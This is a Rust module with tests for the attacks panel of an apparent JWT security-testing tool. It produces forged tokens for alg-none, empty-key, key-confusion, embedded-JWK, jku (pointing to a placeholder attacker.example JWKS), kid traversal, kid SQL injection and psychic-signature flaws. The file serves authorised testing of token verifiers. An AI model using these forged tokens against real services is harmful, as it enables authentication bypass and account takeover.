//! The attacks panel: the usual attack tokens (`jose::attacks`) made from the encoder's header and
//! payload, the target's public key and the tester's URL. Answers `Request::Attacks`.
//!
//! The fresh key that signs the embedded-JWK and `jku` tokens is generated here, in the worker,
//! once per key type and kept while the page's `key_session` stays the same: the tokens do not
//! change while the header is typed, and the JWKS to host stays valid. Its private part never
//! leaves the worker (the page has no use for it). Its type follows the header's `alg` (ES384:
//! P-384, EdDSA: Ed25519, ...; RSA 2048 otherwise, as RS256 is what most verifiers expect), so a
//! verifier that allows only its own algorithm still gets a token it would look at.

use serde_json::Value;

use crate::jose::attacks::{self as crafting, craft_all, AttackInputs};
use crate::jose::keys::generate::{generate, GeneratedKey};
use crate::jose::keys::{parse_signing_key, PrivateMaterial, SecretEncoding};
use crate::jose::token::json_error_message;
use crate::jose::JoseError;

use super::handler::Engine;
use super::protocol::{AttackToken, AttacksReport, AttacksRequest};

/// Every attack in the panel's order, with what it tests.
const ATTACKS: [(&str, &str); 9] = [
    ("none", crafting::ABOUT_NONE),
    ("null-signature", crafting::ABOUT_NULL_SIGNATURE),
    ("empty-key", crafting::ABOUT_EMPTY_KEY),
    ("key-confusion", crafting::ABOUT_KEY_CONFUSION),
    ("embedded-jwk", crafting::ABOUT_EMBEDDED_JWK),
    ("jku", crafting::ABOUT_JKU),
    ("kid-traversal", crafting::ABOUT_KID_TRAVERSAL),
    ("kid-sql", crafting::ABOUT_KID_SQL),
    ("psychic", crafting::ABOUT_PSYCHIC),
];

/// The fresh keys of one session, by key type.
#[derive(Default)]
pub(super) struct FreshKeys {
    session: u64,
    keys: Vec<(&'static str, GeneratedKey)>,
}

/// The key type of the fresh key for a header: the header's curve, Ed25519, or RSA 2048.
pub fn fresh_key_type(header: &str) -> &'static str {
    let alg = serde_json::from_str::<Value>(header).ok().and_then(|header| header.get("alg")?.as_str().map(str::to_string));
    match alg.as_deref() {
        Some("ES256") => "EC-P-256",
        Some("ES384") => "EC-P-384",
        Some("ES512") => "EC-P-521",
        Some("EdDSA" | "Ed25519") => "OKP-Ed25519",
        _ => "RSA-2048",
    }
}

/// The header and payload as the encoder accepts them: a JSON object, and a payload that looks
/// like JSON (`{`, `[`) must be JSON (other text is signed as it is).
fn check_texts(header: &str, payload: &str) -> Result<(), String> {
    match serde_json::from_str::<Value>(header) {
        Ok(Value::Object(_)) => {}
        Ok(_) => return Err("header: must be a JSON object".into()),
        Err(error) => {
            return Err(format!("header: JSON error at line {} column {}: {}", error.line(), error.column(), json_error_message(&error)))
        }
    }
    let trimmed = payload.trim_start();
    if trimmed.starts_with('{') || trimmed.starts_with('[') {
        if let Err(error) = serde_json::from_str::<Value>(payload) {
            return Err(format!("payload: JSON error at line {} column {}: {}", error.line(), error.column(), json_error_message(&error)));
        }
    }
    Ok(())
}

/// Why the key box cannot be used for key confusion before it is read as a public key: a private
/// key (the attack is about what the target publishes, and a private key pasted here is most
/// likely the wrong box or the tester's own).
fn private_key_problem(text: &str) -> Option<String> {
    match parse_signing_key(text, SecretEncoding::Utf8, "") {
        Ok(Some(keys)) if keys.iter().any(|key| !matches!(key.material, PrivateMaterial::Secret(_))) => Some(format!(
            "this box holds {}, not a public key: paste the target's public key as it publishes it (PEM, certificate or JWK without \"d\")",
            keys[0].material.kind()
        )),
        Err(JoseError::PemPasswordNeeded | JoseError::PemPasswordWrong) => {
            Some("this box holds an encrypted private key, not a public key: paste the target's public key (PEM, certificate or JWK)".into())
        }
        _ => None,
    }
}

/// Why the URL cannot be a `jku`: it must be an absolute http(s) URL.
fn url_problem(url: &str) -> Option<String> {
    let rest = url.strip_prefix("https://").or_else(|| url.strip_prefix("http://"));
    match rest {
        Some(rest) if !rest.is_empty() && !rest.starts_with('/') && !url.contains(char::is_whitespace) => None,
        _ => Some("the jku URL must be an absolute https:// (or http://) URL you control, e.g. https://attacker.example/jwks.json".into()),
    }
}

impl Engine {
    /// The fresh key of this session and type, if it was made already.
    pub fn fresh_key(&mut self, session: u64, key_type: &str) -> Option<&GeneratedKey> {
        if self.fresh_keys.session != session {
            self.fresh_keys = FreshKeys { session, keys: Vec::new() };
        }
        self.fresh_keys.keys.iter().find(|(kind, _)| *kind == key_type).map(|(_, key)| key)
    }

    /// Keeps a key made elsewhere (the worker's WebCrypto RSA) as this session's key of its type.
    pub fn keep_fresh_key(&mut self, session: u64, key_type: &'static str, key: GeneratedKey) {
        if self.fresh_key(session, key_type).is_none() {
            self.fresh_keys.keys.push((key_type, key));
        }
    }

    /// Every attack the inputs allow.
    pub fn attacks(&mut self, request: &AttacksRequest) -> AttacksReport {
        let mut report = AttacksReport {
            error: None,
            tokens: Vec::new(),
            errors: Vec::new(),
            jwks: String::new(),
            fresh_key: String::new(),
            attacks: ATTACKS.iter().map(|(attack, about)| (attack.to_string(), about.to_string())).collect(),
        };
        if let Err(message) = check_texts(&request.header, &request.payload) {
            report.error = Some(message);
            return report;
        }
        let key_type = fresh_key_type(&request.header);
        if self.fresh_key(request.key_session, key_type).is_none() {
            match generate(key_type) {
                Ok(key) => self.keep_fresh_key(request.key_session, key_type, key),
                Err(error) => report.errors.push(("embedded-jwk".into(), format!("no fresh key: {error}"))),
            }
        }
        let fresh = self.fresh_keys.keys.iter().find(|(kind, _)| *kind == key_type).map(|(_, key)| key);
        if let Some(key) = fresh {
            report.fresh_key = format!("{}, kid {}", key.description, key.kid);
        }
        // The key text as pasted: its own layout (CRLF, no final newline) is one of the variants.
        let public_key = request.public_key.as_str();
        let mut key_problem = (!public_key.trim().is_empty()).then(|| private_key_problem(public_key)).flatten();
        let url = request.url.trim();
        let url_error = (!url.is_empty()).then(|| url_problem(url)).flatten();
        let inputs = AttackInputs {
            header: &request.header,
            payload: &request.payload,
            public_key: (key_problem.is_none() && !public_key.trim().is_empty()).then_some(public_key),
            fresh_key: fresh,
            url: (url_error.is_none() && !url.is_empty()).then_some(url),
        };
        let (tokens, jwks, errors) = craft_all(&inputs);
        report.tokens = tokens
            .into_iter()
            .map(|made| AttackToken { attack: made.attack.into(), variant: made.variant, token: made.token, about: made.about.into() })
            .collect();
        report.jwks = jwks.unwrap_or_default();
        report.errors.extend(errors.into_iter().map(|(attack, message)| (attack.to_string(), message)));
        if let Some(message) = key_problem.take() {
            report.errors.push(("key-confusion".into(), message));
        }
        if let Some(message) = url_error {
            report.errors.push(("jku".into(), message));
        }
        report
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::protocol::{read, Request, Response};
    use crate::jose::b64;
    use crate::jose::keys::generate::generate;
    use crate::jose::keys::parse_key;
    use crate::jose::token::decode;

    fn request(header: &str, payload: &str) -> AttacksRequest {
        AttacksRequest {
            generation: 1,
            header: header.into(),
            payload: payload.into(),
            public_key: String::new(),
            url: String::new(),
            key_session: 1,
        }
    }

    fn of<'a>(report: &'a AttacksReport, attack: &str) -> Vec<&'a AttackToken> {
        report.tokens.iter().filter(|token| token.attack == attack).collect()
    }

    fn header_of(token: &str) -> Value {
        Value::Object(decode(token).unwrap().header)
    }

    #[test]
    fn without_other_input_the_panel_shows_the_attacks_that_need_none() {
        let mut engine = Engine::default();
        let report = engine.attacks(&request(r#"{"alg":"ES256","typ":"JWT"}"#, r#"{"sub":"admin"}"#));
        assert_eq!(report.error, None);
        assert!(report.errors.is_empty(), "{:?}", report.errors);
        let variants = |attack: &str| of(&report, attack).iter().map(|token| token.variant.clone()).collect::<Vec<_>>();
        assert_eq!(variants("none"), ["none", "None", "NONE", "nOnE"]);
        assert_eq!(variants("empty-key"), ["HS256", "HS384", "HS512"]);
        assert_eq!(variants("psychic"), ["ES256 raw", "ES256 DER", "ES384 raw", "ES384 DER", "ES512 raw", "ES512 DER"]);
        for attack in ["null-signature", "embedded-jwk", "kid-traversal", "kid-sql"] {
            assert_eq!(of(&report, attack).len(), 1, "{attack}");
        }
        assert!(of(&report, "key-confusion").is_empty() && of(&report, "jku").is_empty() && report.jwks.is_empty());
        // An ES256 header gets a P-256 fresh key, kept while typing: the same token for the same texts.
        assert!(report.fresh_key.contains("P-256"), "{}", report.fresh_key);
        let embedded = of(&report, "embedded-jwk")[0].token.clone();
        assert_eq!(header_of(&embedded)["alg"], "ES256");
        let again = engine.attacks(&request(r#"{"alg":"ES256","typ":"JWT"}"#, r#"{"sub":"admin"}"#));
        assert_eq!(of(&again, "embedded-jwk")[0].token.split('.').next(), embedded.split('.').next());
        // A new session: a new key.
        let renewed = engine.attacks(&AttacksRequest { key_session: 2, ..request(r#"{"alg":"ES256","typ":"JWT"}"#, r#"{"sub":"admin"}"#) });
        assert_ne!(header_of(&of(&renewed, "embedded-jwk")[0].token)["jwk"], header_of(&embedded)["jwk"]);
        // Every attack has its line, and every token is of one of them, with that line.
        assert_eq!(report.attacks.len(), 9);
        for token in &report.tokens {
            assert!(report.attacks.iter().any(|(attack, about)| *attack == token.attack && *about == token.about), "{}", token.attack);
        }
        // Every token carries the payload's claims.
        for token in &report.tokens {
            let payload = b64::decode_any_alphabet(token.token.split('.').nth(1).unwrap()).unwrap();
            assert_eq!(payload, br#"{"sub":"admin"}"#, "{}", token.attack);
            assert!(!token.about.is_empty());
        }
    }

    #[test]
    fn key_confusion_and_jku_need_their_inputs_and_say_what_is_wrong() {
        let mut engine = Engine::default();
        let key = generate("EC-P-384").unwrap();
        let header = r#"{"alg":"ES384"}"#;
        let with = |public_key: &str, url: &str| AttacksRequest { public_key: public_key.into(), url: url.into(), ..request(header, "{}") };
        let report = engine.attacks(&with(key.public_pem.as_deref().unwrap(), "https://attacker.example/jwks.json"));
        assert!(report.errors.is_empty(), "{:?}", report.errors);
        let confusion: Vec<_> = of(&report, "key-confusion").iter().map(|token| token.variant.clone()).collect();
        assert_eq!(confusion, ["HS256, PEM", "HS256, PEM without final newline", "HS384, PEM", "HS384, PEM without final newline", "HS512, PEM", "HS512, PEM without final newline"]);
        // A PEM pasted in another layout (CRLF) is also used exactly as pasted.
        let crlf = key.public_pem.as_deref().unwrap().replace('\n', "\r\n");
        let pasted = engine.attacks(&with(&crlf, ""));
        let as_pasted: Vec<_> = of(&pasted, "key-confusion").into_iter().filter(|token| token.variant.ends_with("PEM as pasted")).collect();
        assert_eq!(as_pasted.len(), 3);
        let input = as_pasted[0].token.rsplit_once('.').unwrap();
        let mac = crate::jose::jws::sign::hmac(crate::jose::jws::Hash::Sha256, crlf.as_bytes(), input.0.as_bytes());
        assert_eq!(input.1, b64::encode(&mac));
        // The jku token names the URL and its kid is in the JWKS to host, which verifies it.
        let jku = &of(&report, "jku")[0].token;
        let header = header_of(jku);
        assert_eq!(header["jku"], "https://attacker.example/jwks.json");
        assert_eq!(header["alg"], "ES384");
        let jwks: Value = serde_json::from_str(&report.jwks).unwrap();
        assert_eq!(jwks["keys"][0]["kid"], header["kid"]);
        let verifier = parse_key(&report.jwks, SecretEncoding::Utf8).unwrap().unwrap();
        let crate::jose::keys::KeyInput::Set { keys, .. } = verifier else { panic!() };
        let verifier = crate::jose::keys::KeyInput::Single(keys[0].clone());
        assert_eq!(crate::jose::jws::verify(&decode(jku).unwrap(), Some(&verifier)).verdict.status(), "valid");
        // A private key, an encrypted one, a secret, and a URL that is not one: a message each, the rest made.
        for (public_key, url, attack, says) in [
            (key.private_pem.clone().unwrap(), "", "key-confusion", "an EC P-384 private key, not a public key"),
            (key.private_jwk.to_string(), "", "key-confusion", "not a public key"),
            ("a secret".to_string(), "", "key-confusion", "not a secret"),
            (String::new(), "attacker.example/jwks.json", "jku", "absolute https://"),
        ] {
            let report = engine.attacks(&with(&public_key, url));
            assert_eq!(report.errors.len(), 1, "{:?}", report.errors);
            assert_eq!(report.errors[0].0, attack);
            assert!(report.errors[0].1.contains(says), "{:?}", report.errors);
            assert!(of(&report, attack).is_empty());
            assert_eq!(of(&report, "none").len(), 4);
        }
    }

    #[test]
    fn broken_json_gives_one_message_and_no_token() {
        let mut engine = Engine::default();
        for (header, payload, says) in [
            (r#"{"alg":"HS256""#, "{}", "header: JSON error at line 1 column 14: EOF while parsing an object"),
            ("[1]", "{}", "header: must be a JSON object"),
            (r#"{"alg":"HS256"}"#, "{\"sub\":\n1,}", "payload: JSON error at line 2 column 3"),
        ] {
            let report = engine.attacks(&request(header, payload));
            assert!(report.error.as_deref().is_some_and(|error| error.starts_with(says)), "{:?}", report.error);
            assert!(report.tokens.is_empty());
        }
        // A payload that is not JSON at all is signed as it is.
        let report = engine.attacks(&request(r#"{"alg":"EdDSA"}"#, "plain text"));
        assert_eq!(report.error, None);
        assert!(report.fresh_key.contains("Ed25519"), "{}", report.fresh_key);
        assert_eq!(b64::decode_any_alphabet(of(&report, "none")[0].token.split('.').nth(1).unwrap()).unwrap(), b"plain text");
    }

    #[test]
    fn the_fresh_key_follows_the_header_and_can_come_from_elsewhere() {
        assert_eq!(fresh_key_type(r#"{"alg":"RS256"}"#), "RSA-2048");
        assert_eq!(fresh_key_type(r#"{"alg":"HS256"}"#), "RSA-2048");
        assert_eq!(fresh_key_type(r#"{"alg":"ES512"}"#), "EC-P-521");
        assert_eq!(fresh_key_type("not json"), "RSA-2048");
        // The worker's WebCrypto RSA key, kept: no key is generated here for the session.
        let rsa = crate::jose::keys::parse_signing_key(
            &serde_json::from_str::<Vec<Value>>(include_str!("../../tests/fixtures/cross_impl_py.json"))
                .unwrap()
                .into_iter()
                .find(|case| case["name"] == "pyjwt-RS256-pem-pkcs8-private")
                .unwrap()["key"]
                .as_str()
                .unwrap()
                .to_string(),
            SecretEncoding::Utf8,
            "",
        )
        .unwrap()
        .unwrap();
        let kept = crate::jose::keys::generate::private_forms(&rsa[0].material).unwrap();
        let mut engine = Engine::default();
        engine.keep_fresh_key(5, "RSA-2048", kept.clone());
        let request = AttacksRequest { key_session: 5, ..request(r#"{"alg":"PS384","typ":"JWT"}"#, "{}") };
        let report = engine.attacks(&request);
        let header = header_of(&of(&report, "embedded-jwk")[0].token);
        assert_eq!((header["alg"].clone(), header["kid"].clone()), (Value::from("PS384"), Value::from(kept.kid.clone())));
        assert_eq!(header["jwk"], kept.public_jwk);
        // Through the protocol, and read back by the page as serde wrote it.
        let response = engine.handle(Request::Attacks(request.clone()), &|| 0.0);
        let Response::Attacks { generation: 1, report: answered } = &response else { panic!("{response:?}") };
        // The same key signs (PS384 signatures are randomised: the signed parts are compared).
        let signed = |report: &AttacksReport| of(report, "embedded-jwk")[0].token.rsplit_once('.').unwrap().0.to_string();
        assert_eq!(signed(answered), signed(&report));
        let value = serde_json::to_value(&response).unwrap();
        assert_eq!(read::attacks(&value["Attacks"]), Some((1, (**answered).clone())));
        assert_eq!(read::response(&value), None, "the reader's read::response leaves Attacks out");
        let text = Request::Attacks(request.clone()).to_json();
        assert_eq!(text, serde_json::to_string(&Request::Attacks(request.clone())).unwrap());
        assert_eq!(serde_json::from_str::<Request>(&text).unwrap(), Request::Attacks(request));
        let failed = AttacksReport {
            error: Some("e".into()),
            tokens: vec![],
            errors: vec![("jku".into(), "u".into())],
            jwks: String::new(),
            fresh_key: String::new(),
            attacks: vec![],
        };
        let value = serde_json::to_value(Response::Attacks { generation: 2, report: Box::new(failed.clone()) }).unwrap();
        assert_eq!(read::attacks(&value["Attacks"]), Some((2, failed)));
    }
}
